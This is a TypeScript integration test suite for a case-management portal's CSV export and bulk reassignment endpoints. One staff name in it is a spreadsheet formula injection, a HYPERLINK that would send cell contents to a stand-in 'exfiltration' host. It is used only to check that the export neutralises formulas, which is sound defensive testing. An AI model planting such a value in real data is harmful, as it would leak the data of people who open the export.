import { BulkReassignmentResult, CaseDetail, CaseList } from '@mnpddh/shared';
import type { RunningPortal } from '../../apps/api/src/boot.js';
import { CaseVaultService } from '../../apps/api/src/vault/case-vault.service.js';
import { plainContent } from '../factories/case-content.js';
import { asOwner, createAdmin, createStaff, FAST_PASSWORDS, signIn, type StaffClient } from '../support/staff.js';
import { startTestPortal } from '../support/test-portal.js';

let portal: RunningPortal;
let supervisor: StaffClient;
let caseworker: StaffClient;
// A name a spreadsheet would run as a formula, as a hostile insider could choose it.
const FORMULA_NAME = '=HYPERLINK("http://exfiltration.invalid/?"&A1;"clic")';

beforeAll(async () => {
  portal = await startTestPortal(FAST_PASSWORDS);
  const admin = await signIn(portal, await createAdmin(portal));
  supervisor = (await createStaff(portal, admin, { roles: ['supervisor'], name: 'Superviseure Export' })).client;
  caseworker = (await createStaff(portal, admin, { roles: ['caseworker'], name: FORMULA_NAME })).client;
  const vault = portal.app.get(CaseVaultService);
  for (const urgent of [true, true, false]) {
    const { caseId } = await vault.createCase({ urgent, content: plainContent() });
    if (urgent) expect((await supervisor.post(`/api/cases/${caseId}/assignment`, { assigneeId: caseworker.id })).status).toBe(201);
  }
});

afterAll(async () => {
  await portal?.close();
});

/** Rows of the CSV (a BOM first, for spreadsheets); cells split on commas outside quotes. */
function rowsOf(csv: string): string[][] {
  return csv
    .replace(/^\uFEFF/, '')
    .trim()
    .split(/\r?\n/)
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)].slice(0, -1).map((m) => (m[1] ?? '').replace(/^"|"$/g, '').replace(/""/g, '"')));
}

describe('case-list export', () => {
  it('gives supervisors the list’s columns for the same filters, neutralises formulas, and is audited', async () => {
    const response = await supervisor.get('/api/cases/export?urgent=true');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="dossiers-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const [header, ...rows] = rowsOf(await response.text());
    expect(header).toEqual(['reference', 'urgent', 'niveau_de_risque', 'statut', 'prochaine_echeance', 'recu_le', 'region', 'menaces', 'personne_chargee']);

    const list = CaseList.parse(await (await supervisor.get('/api/cases?urgent=true&pageSize=100')).json());
    expect(rows.map((row) => row[0]).sort()).toEqual(list.items.map((item) => item.reference).sort());
    expect(rows.every((row) => row[1] === 'oui')).toBe(true);
    // The formula stays text: a leading quote, never a cell that starts with "=".
    const assigned = rows.filter((row) => row[8]?.includes('HYPERLINK'));
    expect(assigned).toHaveLength(2);
    for (const row of assigned) expect(row[8]).toBe(`'${FORMULA_NAME}`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);

    const audited = await asOwner<{ details: Record<string, unknown> }>(
      portal,
      `SELECT details FROM audit_event WHERE action = 'export.created' ORDER BY seq DESC LIMIT 1`,
    );
    expect(audited[0]?.details).toMatchObject({ kind: 'case_list', format: 'csv', rows: 2, filters: 'urgent' });
  });

  it('refuses caseworkers, and says which filter is wrong', async () => {
    expect((await caseworker.get('/api/cases/export')).status).toBe(403);
    const wrong = await supervisor.get('/api/cases/export?status=nope');
    expect(wrong.status).toBe(400);
    expect(JSON.stringify(await wrong.json())).toContain('status');
  });
});

describe('bulk reassignment', () => {
  it('hands several cases to one person, each assigned, granted and audited on its own; refused cases come back with their reason', async () => {
    const admin = await signIn(portal, await createAdmin(portal));
    const colleague = (await createStaff(portal, admin, { roles: ['caseworker'], name: 'Collègue Reprise' })).client;
    const list = CaseList.parse(await (await supervisor.get('/api/cases?urgent=true&pageSize=100')).json());
    const caseIds = list.items.map((item) => item.id);
    const unknown = '00000000-0000-4000-8000-000000000000';
    expect((await colleague.get(`/api/cases/${caseIds[0]}`)).status).toBe(403);

    const response = await supervisor.post('/api/cases/reassignment', { caseIds: [...caseIds, unknown], assigneeId: colleague.id });
    expect(response.status).toBe(201);
    const result = BulkReassignmentResult.parse(await response.json());
    expect(result.assigned.sort()).toEqual([...caseIds].sort());
    expect(result.refused).toEqual([{ caseId: unknown, reason: 'NOT_FOUND', message: expect.any(String) }]);
    for (const caseId of caseIds) {
      const opened = await colleague.get(`/api/cases/${caseId}`);
      expect(opened.status).toBe(200);
      expect(CaseDetail.parse(await opened.json()).index.assignedTo).toBe(colleague.id);
    }
    // Per case: the first assignment and this one, each its own audit row.
    const audited = await asOwner<{ target_id: string }>(
      portal,
      `SELECT target_id FROM audit_event WHERE action = 'case.assigned' AND target_id = ANY($1::text[])`,
      [caseIds],
    );
    for (const caseId of caseIds) expect(audited.filter((row) => row.target_id === caseId)).toHaveLength(2);
    const granted = await asOwner<{ target_id: string }>(
      portal,
      `SELECT target_id FROM audit_event WHERE action = 'case.granted' AND details->>'recipientId' = $1`,
      [colleague.id],
    );
    expect(granted.map((row) => row.target_id).sort()).toEqual([...caseIds].sort());
  });

  it('refuses a caseworker, with the reason', async () => {
    const refused = await caseworker.post('/api/cases/reassignment', { caseIds: ['00000000-0000-4000-8000-000000000000'], assigneeId: caseworker.id });
    expect(refused.status).toBe(403);
    expect(JSON.stringify(await refused.json())).toContain('attribuent les dossiers');
  });
});
